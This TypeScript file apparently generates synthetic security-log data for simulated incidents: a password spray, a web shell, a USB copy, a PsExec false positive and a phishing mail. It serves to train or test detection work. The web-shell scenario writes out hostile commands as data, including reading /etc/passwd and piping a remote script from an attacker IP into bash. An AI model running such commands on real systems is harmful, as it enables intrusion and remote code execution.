import { allPeople, devices, people, root } from "../organisation.js";
import { fileColumns, initiatingColumns, sampleFile, sampleProcess, writeStart } from "../processes.js";
import type { RowWriter } from "../row-writer.js";
import { writeMail, writeSignIn } from "../services.js";
import { oldPhishing, spray, webShell } from "../threats.js";

const hour = 60;
const day = 24 * hour;
const system32 = "C:\\Windows\\System32";
const microsoft = "Microsoft Corporation";

/** A password spray against everyone, some hours ago: incident 2971. */
export function writeSprayStory(writer: RowWriter): void {
  for (let round = 0; round < 3; round += 1) {
    for (const [index, person] of allPeople.entries()) {
      writeSignIn(writer, 9 * hour - round * 70 - index * 0.5, {
        person,
        ip: spray.ip,
        errorCode: round === 2 && index % 4 === 0 ? 50_053 : 50_126,
        application: "Office 365 Exchange Online",
        userAgent: "BAV2ROPC",
        city: "",
        state: "",
        country: "ZZ",
        isRisky: true,
      });
    }
  }
}

/** An administrator copies an archive to a USB drive, three days ago: incident 2970, an expected activity. */
export function writeRemovableDriveStory(writer: RowWriter): void {
  const explorer = sampleProcess(devices.admin, sampleFile("C:\\Windows\\explorer.exe", microsoft), 3 * day + 300, {
    account: people.jonas,
  });
  writer.add(
    "DeviceEvents",
    3 * day + 12,
    {
      ActionType: "UsbDriveMounted",
      AdditionalFields: JSON.stringify({ DriveLetter: "E:", BusType: 7, SerialNumber: "0123-TEST" }),
    },
    initiatingColumns(explorer, writer),
  );
  for (let part = 1; part <= 6; part += 1) {
    writer.add(
      "DeviceFileEvents",
      3 * day + 10 - part,
      { ActionType: "FileCreated", SensitivityLabel: "Confidential" },
      fileColumns(sampleFile(`E:\\archive\\backup set ${part}.zip`)),
      initiatingColumns(explorer, writer),
    );
  }
}

/** A web shell on the Linux server, five days ago: incident 2969. */
export function writeWebShellStory(writer: RowWriter): void {
  const server = sampleProcess(devices.web, sampleFile("/usr/sbin/apache2"), 12 * day, {
    account: people.web,
    commandLine: "/usr/sbin/apache2 -k start",
  });
  writer.add(
    "DeviceFileEvents",
    5 * day + 30,
    { ActionType: "FileCreated" },
    fileColumns(webShell.file),
    initiatingColumns(server, writer),
  );
  const commands = ["id; uname -a", "cat /etc/passwd | cut -d: -f1", `curl -s http://${webShell.ip}/s.sh | bash`];
  for (const [index, command] of commands.entries()) {
    const shell = sampleProcess(devices.web, sampleFile("/usr/bin/dash"), 5 * day + 25 - index * 3, {
      parent: server,
      commandLine: `sh -c '${command}'`,
    });
    writeStart(writer, shell);
  }
  writer.add(
    "DeviceNetworkEvents",
    5 * day + 18,
    {
      ActionType: "ConnectionSuccess",
      RemoteIP: webShell.ip,
      RemotePort: 80,
      RemoteUrl: `http://${webShell.ip}/s.sh`,
      RemoteIPType: "Public",
      LocalIP: devices.web.ip,
      LocalPort: 41_882,
      LocalIPType: "Private",
      Protocol: "Tcp",
    },
    initiatingColumns(server, writer),
  );
  const rootShell = sampleProcess(devices.web, sampleFile("/usr/bin/sudo"), 5 * day + 15, {
    account: root,
    isElevated: true,
  });
  writeStart(writer, rootShell);
}

/** An administrator's remote tool, mistaken for an attack, twelve days ago: incident 2968, a false positive. */
export function writeRemoteToolStory(writer: RowWriter): void {
  const tool = sampleProcess(devices.admin, sampleFile("C:\\Tools\\PsExec64.exe", "Sysinternals"), 12 * day, {
    account: people.jonas,
    isElevated: true,
    commandLine: 'PsExec64.exe \\\\srv-files-01 -s cmd.exe /c "sc query lanmanserver"',
  });
  writeStart(writer, tool);
  const service = sampleProcess(devices.files, sampleFile("C:\\Windows\\PSEXESVC.exe", "Sysinternals"), 12 * day - 0.1);
  writeStart(writer, service);
  writeStart(
    writer,
    sampleProcess(devices.files, sampleFile(`${system32}\\cmd.exe`, microsoft), 12 * day - 0.2, {
      parent: service,
      commandLine: 'cmd.exe /c "sc query lanmanserver"',
    }),
  );
}

/** A phishing mail to everyone that nobody clicked, twenty days ago: incident 2967. */
export function writeOldPhishingStory(writer: RowWriter): void {
  for (const person of allPeople.filter(({ surname }) => surname !== "")) {
    writeMail(writer, 20 * day + 40, {
      messageId: oldPhishing.messageId,
      from: oldPhishing.sender,
      fromName: "Mail quota",
      senderIp: oldPhishing.senderIp,
      to: person.upn,
      recipientId: person.objectId,
      subject: oldPhishing.subject,
      direction: "Inbound",
      url: oldPhishing.url,
      isBlocked: person.name.startsWith("m."),
      threat: "Phish",
    });
  }
  writer.add("EmailUrlInfo", 20 * day + 40, {
    NetworkMessageId: oldPhishing.messageId,
    Url: oldPhishing.url,
    UrlDomain: "quota.example.net",
    UrlLocation: "Body",
  });
}
